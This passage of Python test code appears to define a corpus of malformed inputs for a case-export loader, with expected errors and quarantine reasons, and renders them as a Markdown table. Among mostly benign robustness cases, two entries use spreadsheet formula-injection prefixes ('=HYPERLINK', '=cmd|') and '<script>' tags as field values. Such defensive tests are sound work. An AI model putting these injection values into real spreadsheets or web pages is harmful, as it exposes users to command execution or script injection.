    BadInput("json_deep_record", "a record with a field nested 5,000 objects deep", _json_file("deeprecord.json", _deep_record()), "error",
             "deeprecord.json: nested deeper than Python's JSON reader can follow; a case export is a few levels deep: "
             "check it is the export you meant"),
    BadInput("json_truncated", "JSON cut off in the middle", _json_file("cut.json", childrens_document([childrens_case("K1", [childrens_stage()])])[:-20]),
             "error", "cut.json: not valid JSON at line 1, column 382: Unterminated string starting at"),
    BadInput("json_stages_object", "an object of stages, or an empty one, where the list of stages should be", _json_file(
        "stageobject.json", childrens_document([childrens_case("K1", {"1": childrens_stage(), "2": childrens_stage("Stage 2")}),
                                                childrens_case("K2", {}), childrens_case("K3", [childrens_stage()])])),
        "quarantined", "the stage list is not a list of objects (an object", read=3, reasons={"bad_stage_list": 2}),
    BadInput("json_many_keys", "3,000 records with a key of their own each", _json_file("keys.json", childrens_document(
        [childrens_case(f"K{n}", [childrens_stage()]) | {f"extra {n}": 1} for n in range(3000)])), "error",
        "keys.json: the records hold 3,009 different keys; at most 2,000 (is this a case system's export?)"),
    BadInput("json_lone_surrogates", "escapes of half a surrogate pair (\\ud800) in a service and a case id, and a whole pair",
             _json_file("halves.json", childrens_document([childrens_case("K1", [childrens_stage()]) | {"service": "Care\ud800"},
                                                           childrens_case("K\udc01", [childrens_stage()]) | {"service": "Care \U0001f600"}])),
             "loaded", read=2, records={"K1": {"service": "Care\ufffd"}, "K\ufffd": {"service": "Care \U0001f600"}}),
    BadInput("json_stages_string", "a string where the list of stages should be", _json_file("stages.json", childrens_document([
        childrens_case("K1", [childrens_stage()]), childrens_case("K2", "Stage 1 and Stage 2"), childrens_case("K3", [childrens_stage(), "Stage 2"])])),
        "quarantined", "the stage list is not a list of objects", read=4, reasons={"bad_stage_list": 2}),
    BadInput("enum_lookalikes", "outcomes in odd case, spacing, full-width and look-alike letters", _csv_file("enums.csv", _enum_variants()),
             "quarantined", "outcome: 'Uph\u0435ld' is not mapped (it holds U+0435 CYRILLIC SMALL LETTER IE)", read=9, reasons={"unmapped_value": 2},
             records={"E1": {"outcome": "upheld"}, "E2": {"outcome": "upheld"}, "E3": {"outcome": "not_upheld"},
                      "E4": {"outcome": "not_upheld"}, "E5": {"outcome": "not_upheld"}, "E6": {"outcome": "upheld"},
                      "E7": {"outcome": "partly_upheld"}}),
    BadInput("long_case_id", "a case id of 5,000 characters", _csv_file("longid.csv", csv_text(GOOD_ROWS + [csv_row("X" * 5000)])),
             "quarantined", "case_id is 5,000 characters long; at most 200 (is the right column mapped?)", read=4, reasons={"bad_case_id": 1}),
    BadInput("control_in_case_id", "case ids holding a carriage return, a line break and a tab",
             _csv_file("controls.csv", csv_text(GOOD_ROWS + [csv_row("C\r9"), csv_row("C\n8"), csv_row("C\t7")], lineterminator="\r\n")),
             "quarantined", "case_id holds a line break or control character: 'C\\r9'", read=6, reasons={"bad_case_id": 3}),
    BadInput("formula_cells", "`=HYPERLINK`, `=cmd|`, `+`, `-`, `@` in text fields and a case id", _csv_file("formulas.csv", _formula_cells()),
             "loaded", read=6, records={"F1": {"team": FORMULAS[0], "learning": FORMULAS[0]}, "F2": {"service": FORMULAS[1]},
                                        FORMULAS[1]: {"team": "Housing Complaints"}}),
    BadInput("parquet_declaring_rows", "a Parquet file of a few hundred KB declaring 10,000,001 rows", _parquet_declaring(10_000_001),
             "error", "declares.parquet: declares 10,000,001 rows of 1 columns"),
    BadInput("html_in_text", "`<script>` in every text field and a case id", _csv_file("script.csv", _every_text_field(SCRIPT)), "loaded", read=3,
             records={"H1": {"team": SCRIPT, "category": SCRIPT, "learning": SCRIPT}, SCRIPT: {"team": "Housing Complaints"}}),
    BadInput("blank_outcomes", "an outcome column holding only spaces (found by the property test: it crashed the load)",
             _csv_file("blank.csv", csv_text([csv_row("W1", outcome=" "), csv_row("W2", outcome="   ")])), "loaded", read=2),
)


def markdown_table() -> str:
    """The corpus as the Markdown table docs/bad_inputs.md shows."""
    lines = ["| input | outcome | message or quarantine reasons |", "| --- | --- | --- |"]
    for item in CORPUS:
        if item.outcome == "error":
            result = f"`error: {item.message}`"
        elif item.outcome == "quarantined":
            reasons = ", ".join(f"{reason} {count}" for reason, count in item.reasons.items())
            result = f"{item.read} rows read; quarantined: {reasons}; e.g. `{item.message}`"
        else:
            result = f"{item.read} rows read, all loaded"
        outcome = {"error": "error, exit 2", "quarantined": "rows quarantined", "loaded": "loaded"}[item.outcome]
        cells = (f"{item.description} (`{item.name}`)", outcome, result)
        lines.append("| " + " | ".join(cell.replace("|", "\\|") for cell in cells) + " |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(markdown_table(), end="")
